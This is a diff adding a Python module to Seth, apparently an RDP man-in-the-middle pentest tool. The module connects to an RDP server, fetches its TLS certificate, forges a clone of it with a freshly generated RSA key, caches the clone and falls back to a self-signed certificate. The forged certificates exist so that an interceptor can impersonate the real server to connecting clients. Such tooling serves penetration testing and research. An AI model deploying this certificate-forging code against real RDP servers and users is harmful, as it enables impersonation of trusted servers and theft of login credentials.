@@ -0,0 +1,219 @@
+"""
+Cloning the TLS certificate of the target, see --clone-cert. The
+cryptography package is only imported once a certificate is needed.
+"""
+
+import datetime
+import hashlib
+import os
+import re
+import socket
+import ssl
+import struct
+from binascii import unhexlify
+
+from seth import output
+
+# X.224 Connection Request asking for TLS or CredSSP
+TLS_CONNECTION_REQUEST = unhexlify(b"030000130ee000000000000100080003000000")
+# AlgorithmIdentifier of sha256WithRSAEncryption, for clones of
+# certificates that weren't signed with RSA PKCS #1 v1.5
+SHA256_WITH_RSA = unhexlify(b"300d06092a864886f70d01010b0500")
+
+
+class CertificateError(Exception):
+    """No certificate can be had, not even a self-signed one"""
+
+
+def fetch_certificate(host, port, negotiate=True, timeout=10):
+    """Get the DER encoded certificate of an RDP server. TLS only starts
+    after the X.224 negotiation, unless negotiate is False."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    with socket.create_connection((host, port), timeout) as sock:
+        if negotiate:
+            sock.sendall(TLS_CONNECTION_REQUEST)
+            response = b""
+            while len(response) < 4 or len(response) < struct.unpack(
+                    ">H", response[2:4])[0]:
+                chunk = sock.recv(0x1000)
+                if not chunk:
+                    raise ConnectionError("connection closed by %s" % host)
+                response += chunk
+            if len(response) < 19 or not response[11] == 0x02:
+                # Ch. 2.2.1.2.2 RDP Negotiation Failure
+                raise ConnectionError("%s does not offer TLS" % host)
+        with context.wrap_socket(sock, server_hostname=host) as tls:
+            return tls.getpeercert(binary_form=True)
+
+
+def der_header(data, offset):
+    """Return the length of the header and of the content of the DER
+    element at offset"""
+    length = data[offset+1]
+    if length < 0x80:
+        return 2, length
+    n = length & 0x7f
+    return 2+n, int.from_bytes(data[offset+2:offset+2+n], "big")
+
+
+def der_elements(data):
+    """Split the content of a DER SEQUENCE into its elements"""
+    header, length = der_header(data, 0)
+    offset, end = header, header + length
+    result = []
+    while offset < end:
+        h, l = der_header(data, offset)
+        result.append(data[offset:offset+h+l])
+        offset += h+l
+    return result
+
+
+def der_encode(tag, content):
+    length = len(content)
+    if length < 0x80:
+        return bytes([tag, length]) + content
+    n = (length.bit_length() + 7) // 8
+    return bytes([tag, 0x80 | n]) + length.to_bytes(n, "big") + content
+
+
+def forge_certificate(der):
+    """Replace the public key of a certificate with a new one of the same
+    size and sign it with the new key. Everything else stays the same.
+    Returns the certificate and the key in PEM."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import padding, rsa
+    cert = x509.load_der_x509_certificate(der)
+    public_key = cert.public_key()
+    if not isinstance(public_key, rsa.RSAPublicKey):
+        raise ValueError("only RSA certificates can be cloned")
+    key = rsa.generate_private_key(65537, public_key.key_size)
+
+    tbs = der_elements(cert.tbs_certificate_bytes)
+    # The version is optional, the signature algorithm comes after the
+    # serial number and subjectPublicKeyInfo after the subject
+    version = 1 if tbs[0][0] == 0xa0 else 0
+    tbs[version+5] = key.public_key().public_bytes(
+        serialization.Encoding.DER,
+        serialization.PublicFormat.SubjectPublicKeyInfo,
+    )
+    oids = x509.oid.SignatureAlgorithmOID
+    if cert.signature_algorithm_oid in [
+            oids.RSA_WITH_MD5, oids.RSA_WITH_SHA1, oids.RSA_WITH_SHA224,
+            oids.RSA_WITH_SHA256, oids.RSA_WITH_SHA384,
+            oids.RSA_WITH_SHA512]:
+        signature_algorithm = der_elements(der)[1]
+        hash_algorithm = cert.signature_hash_algorithm
+    else:
+        # ECDSA, RSA-PSS and so on, the new key can't sign like that
+        signature_algorithm = SHA256_WITH_RSA
+        hash_algorithm = hashes.SHA256()
+    tbs[version+1] = signature_algorithm
+    tbs = der_encode(0x30, b"".join(tbs))
+    signature = key.sign(tbs, padding.PKCS1v15(), hash_algorithm)
+    der = der_encode(0x30, tbs + signature_algorithm
+                     + der_encode(0x03, b"\x00" + signature))
+
+    cert = x509.load_der_x509_certificate(der)
+    return (cert.public_bytes(serialization.Encoding.PEM),
+            key.private_bytes(serialization.Encoding.PEM,
+                              serialization.PrivateFormat.TraditionalOpenSSL,
+                              serialization.NoEncryption()))
+
+
+def self_signed_certificate(name):
+    """Create a certificate for when the target's one can't be cloned"""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    key = rsa.generate_private_key(65537, 2048)
+    subject = x509.Name([
+        x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, name),
+        x509.NameAttribute(x509.oid.NameOID.ORGANIZATION_NAME,
+                           "Seth by SySS GmbH"),
+    ])
+    now = datetime.datetime.now(datetime.timezone.utc)
+    cert = (x509.CertificateBuilder()
+            .subject_name(subject).issuer_name(subject)
+            .public_key(key.public_key())
+            .serial_number(x509.random_serial_number())
+            .not_valid_before(now - datetime.timedelta(days=1))
+            .not_valid_after(now + datetime.timedelta(days=365))
+            .sign(key, hashes.SHA256()))
+    return (cert.public_bytes(serialization.Encoding.PEM),
+            key.private_bytes(serialization.Encoding.PEM,
+                              serialization.PrivateFormat.TraditionalOpenSSL,
+                              serialization.NoEncryption()))
+
+
+def write_private(path, data):
+    """Write a file only we can read, readers never see half of it"""
+    temp = "%s.%d.tmp" % (path, os.getpid())
+    fd = os.open(temp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    with os.fdopen(fd, "wb") as f:
+        f.write(data)
+    os.replace(temp, path)
+
+
+def check_cache_directory(directory):
+    """Create the cache, and refuse one that someone else could have put
+    their certificate and key into"""
+    try:
+        os.makedirs(directory, mode=0o700, exist_ok=True)
+        st = os.stat(directory)
+    except OSError as e:
+        raise CertificateError("Can't use %s for certificates: %s" % (
+            directory, e.strerror))
+    if not st.st_uid == os.getuid() or st.st_mode & 0o022:
+        raise CertificateError("Refusing to use %s for certificates, it "
+                               "must be yours and only writable by you"
+                               % directory)
+
+
+def cached_certificate(directory, name, create):
+    """Return the paths of a certificate and its key in the cache, create()
+    is only called if they aren't there yet"""
+    certfile = os.path.join(directory, name + ".crt")
+    keyfile = os.path.join(directory, name + ".key")
+    if os.path.exists(certfile) and os.path.exists(keyfile):
+        return certfile, keyfile, True
+    cert, key = create()
+    # The key first, the certificate marks the entry as complete
+    write_private(keyfile, key)
+    write_private(certfile, cert)
+    return certfile, keyfile, False
+
+
+def clone_certificate(host, port, directory):
+    """Return the paths of a clone of the target's certificate and its key.
+    Clones are cached by the fingerprint of the original, so only the first
+    run against a host has to generate a key. If the certificate can't be
+    cloned, a self-signed one is used instead."""
+    try:
+        import cryptography.x509
+    except ImportError:
+        raise CertificateError("Cloning certificates needs the python3 "
+                               "module 'cryptography', use -c and -k")
+    check_cache_directory(directory)
+    try:
+        try:
+            der = fetch_certificate(host, port)
+        except (OSError, ssl.SSLError):
+            # Maybe it's not RDP, or it speaks TLS right away
+            der = fetch_certificate(host, port, negotiate=False)
+        fingerprint = hashlib.sha256(der).hexdigest()
+        certfile, keyfile, cached = cached_certificate(
+            directory, fingerprint, lambda: forge_certificate(der))
+        output.log("%s certificate of %s:%d (SHA256 %s)" % (
+            "Using cached clone of" if cached else "Cloned",
+            host, port, fingerprint))
+    except (OSError, ValueError) as e:
+        output.log("Failed to clone certificate of %s:%d: %s" % (host, port,
+                                                                 e))
+        certfile, keyfile, cached = cached_certificate(
+            directory, "self-signed-" + re.sub(r"[^\w.-]", "_", host),
+            lambda: self_signed_certificate(host))
+        output.log("Using self-signed certificate for %s" % host)
+    return certfile, keyfile